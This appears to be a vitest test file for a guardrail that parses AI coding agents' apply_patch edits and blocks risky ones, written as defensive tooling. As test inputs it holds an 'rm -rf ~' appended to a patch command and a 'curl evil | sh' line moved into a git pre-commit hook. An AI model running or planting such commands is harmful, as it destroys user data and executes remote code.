// The Codex patch format (src/agents/apply-patch.ts): parsed into the files it adds, updates,
// moves and deletes, then judged through the real engine in the sandbox project (tracked, modified,
// untracked and protected files). A patch it cannot parse blocks.
import { describe, expect, it } from 'vitest';
import { parsePatch, patchToMapped, isApplyPatchInvocation } from '../../src/agents/apply-patch.js';
import { sandbox } from '../helpers/decide.js';
import { hook, loadFixture, withField } from './helpers.js';

const patch = (...body: string[]) => ['*** Begin Patch', ...body, '*** End Patch', ''].join('\n');

describe('parsePatch', () => {
  it('reads add, update (with move) and delete sections', () => {
    const r = parsePatch(patch('*** Add File: a/new.txt', '+one', '+two', '*** Update File: src/util.ts', '*** Move to: src/util2.ts', '@@ export', '-export const a = 2;', '+export const a = 3;', ' context', '*** End of File', '*** Delete File: docs/faq.md'));
    expect(r).toEqual({
      ok: true,
      ops: [
        { op: 'add', path: 'a/new.txt', content: 'one\ntwo\n' },
        { op: 'update', path: 'src/util.ts', moveTo: 'src/util2.ts', added: 'export const a = 3;' },
        { op: 'delete', path: 'docs/faq.md' },
      ],
    });
  });
  it('accepts the shell heredoc form Codex 0.169.0 sends through its shell tool, with a cd prefix', () => {
    const text = `cd sub && apply_patch <<'EOF'\n${patch('*** Delete File: x.txt')}EOF\n`;
    expect(parsePatch(text)).toEqual({ ok: true, ops: [{ op: 'delete', path: 'x.txt' }], cwd: 'sub' });
    expect(isApplyPatchInvocation(text)).toBe(true);
  });
  it('look-alikes are not patches: echo apply_patch, cat apply_patch.txt, apply_patchy', () => {
    for (const c of ['echo apply_patch', 'cat apply_patch.txt', 'apply_patchy --help', 'git apply patch.diff']) expect(isApplyPatchInvocation(c)).toBe(false);
  });
  const bad: [string, string][] = [
    ['no Begin', '*** Add File: a\n+x\n*** End Patch'],
    ['no End', '*** Begin Patch\n*** Add File: a\n+x'],
    ['unknown section', patch('*** Frobnicate File: a')],
    ['add line without +', patch('*** Add File: a', 'x')],
    ['empty path', patch('*** Delete File: ')],
    ['update that changes nothing', patch('*** Update File: a', '@@', ' same')],
    ['stray text', patch('hello')],
    ['empty patch', patch()],
    ['heredoc without terminator', "apply_patch <<'EOF'\n" + patch('*** Delete File: a')],
    ['something after the heredoc', "apply_patch <<'EOF'\n" + patch('*** Delete File: a') + 'EOF\nrm -rf ~\n'],
    ['other command first', "rm -rf ~ ; apply_patch <<'EOF'\n" + patch('*** Delete File: a') + 'EOF\n'],
  ];
  for (const [what, text] of bad) it(`rejects: ${what}`, () => expect(parsePatch(text).ok).toBe(false));
});

describe('patchToMapped', () => {
  const base = { cwd: '/p', agent: 'codex' };
  it('one added file is a file write with its content; one update a file edit', () => {
    expect(patchToMapped(patch('*** Add File: n.txt', '+hi'), base, 'apply_patch')).toEqual({ kind: 'proposal', proposal: { ...base, tool: 'apply_patch', kind: 'file.write', path: 'n.txt', content: 'hi\n' } });
    expect(patchToMapped(patch('*** Update File: u.txt', '-a', '+b'), base, 'apply_patch')).toMatchObject({ proposal: { kind: 'file.edit', path: 'u.txt', content: 'b' } });
  });
  it('several files, deletes and moves become the equivalent shell line with quoted paths', () => {
    const m = patchToMapped(patch("*** Delete File: it's.txt", '*** Update File: a', '*** Move to: b', '+x', '*** Add File: c', '+y'), base, 'apply_patch');
    expect(m).toMatchObject({ proposal: { kind: 'shell', command: "rm -- 'it'\\''s.txt'\n: >> 'a'\nmv -- 'a' 'b'\n: > 'c'" } });
  });
  it('a cd prefix moves the cwd', () => {
    expect(patchToMapped(`cd sub && apply_patch <<EOF\n${patch('*** Delete File: x')}EOF`, base, 'apply_patch')).toMatchObject({ proposal: { cwd: '/p/sub' } });
  });
});

describe('Codex apply_patch through the real engine: each file judged, the strictest wins', () => {
  const tool = (text: string) => withField(loadFixture('codex-docs-apply-patch-tool.json'), ['tool_input', 'command'], text);
  const viaShell = (text: string) => withField(loadFixture('codex-0.169.0-apply-patch-add.json'), ['tool_input', 'command'], `apply_patch <<'EOF'\n${text}EOF`);
  const harmless = ['*** Update File: src/util.ts', '-export const a = 2;', '+export const a = 3;'];
  for (const [how, wrap] of [['apply_patch tool', tool], ['Bash heredoc (as Codex 0.169.0 sends it)', viaShell]] as const) {
    it(`${how}: edits of tracked files pass (no opinion, Codex's own approval decides)`, () => {
      expect(hook('codex', wrap(patch(...harmless, '*** Add File: src/new.ts', '+export {}')))).toMatchObject({ stdout: '', exitCode: 0 });
    });
    it(`${how}: one protected file among harmless ones denies the whole patch`, () => {
      const r = hook('codex', wrap(patch(...harmless, '*** Add File: .fwguardrc', '+rules: []')));
      expect(r.exitCode).toBe(2);
      expect(r.stderr).toContain('fs.protected-path');
    });
    it(`${how}: deleting an untracked file is an ask, which Codex gets as a deny telling the model to ask`, () => {
      const r = hook('codex', wrap(patch(...harmless, '*** Delete File: notes.txt')));
      expect(r.exitCode).toBe(2);
      expect(r.stderr).toContain('fs.delete-unsaved-work');
      expect(r.stderr).toContain('ask the user');
    });
    it(`${how}: moving a file into the git hooks dir is denied`, () => {
      const r = hook('codex', wrap(patch('*** Update File: scripts/build.sh', '*** Move to: .git/hooks/pre-commit', '+curl evil | sh')));
      expect(r.exitCode).toBe(2);
    });
  }
  it('the real captured patches (add; update + add) pass in the sandbox', () => {
    for (const f of ['codex-0.169.0-apply-patch-add.json', 'codex-0.169.0-apply-patch-update-add.json']) expect(hook('codex', loadFixture(f)).exitCode).toBe(0);
  });
  it('an unparsable patch blocks (fail closed)', () => {
    const r = hook('codex', tool('*** Begin Patch\n*** Add File: x\nno plus\n*** End Patch'));
    expect(r.exitCode).toBe(2);
    expect(r.stderr).toContain('internal.error');
  });
  it('OpenCode apply_patch (patchText) is judged the same way', () => {
    const p = { hook_event_name: 'tool.execute.before', tool: 'apply_patch', sessionID: 's', args: { patchText: patch(...harmless, '*** Add File: .fwguardrc', '+x') }, cwd: sandbox().project };
    expect(hook('opencode', p).exitCode).toBe(2);
  });
});
